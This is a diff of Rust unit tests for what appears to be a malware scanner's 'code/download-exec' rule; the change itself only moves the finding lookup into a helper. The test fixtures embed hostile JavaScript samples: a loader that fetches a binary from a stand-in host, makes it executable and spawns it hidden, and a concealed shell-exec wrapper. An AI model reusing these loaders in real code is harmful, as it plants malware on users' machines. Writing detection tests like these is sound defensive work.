@@ -227,11 +227,7 @@ mod tests {
                 "const cp = require('child_process');\nexports.run = (c) => cp.exec(c, { windowsHide: true });\n",
             ),
         ]);
-        let f = s
-            .findings
-            .iter()
-            .find(|f| f.rule == "code/download-exec")
-            .expect("a finding");
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
         assert_eq!(
             (f.file.as_str(), f.line, f.severity),
             ("run.js", 2, diligence_finding::Severity::Critical)
@@ -262,11 +258,7 @@ mod tests {
                 "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst out = require('path').join(require('os').tmpdir(), 'svc-helper');\nhttps.get('https://dl.example.net/b', (res) => {\n  const f = fs.createWriteStream(out);\n  res.pipe(f);\n  f.on('finish', () => { fs.chmodSync(out, 0o755); spawn(out, [], { detached: true, stdio: 'ignore' }).unref(); });\n});\n",
             ),
         ]);
-        let f = s
-            .findings
-            .iter()
-            .find(|f| f.rule == "code/download-exec")
-            .expect("a finding");
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
         assert_eq!(
             (f.line, f.severity),
             (7, diligence_finding::Severity::Critical)
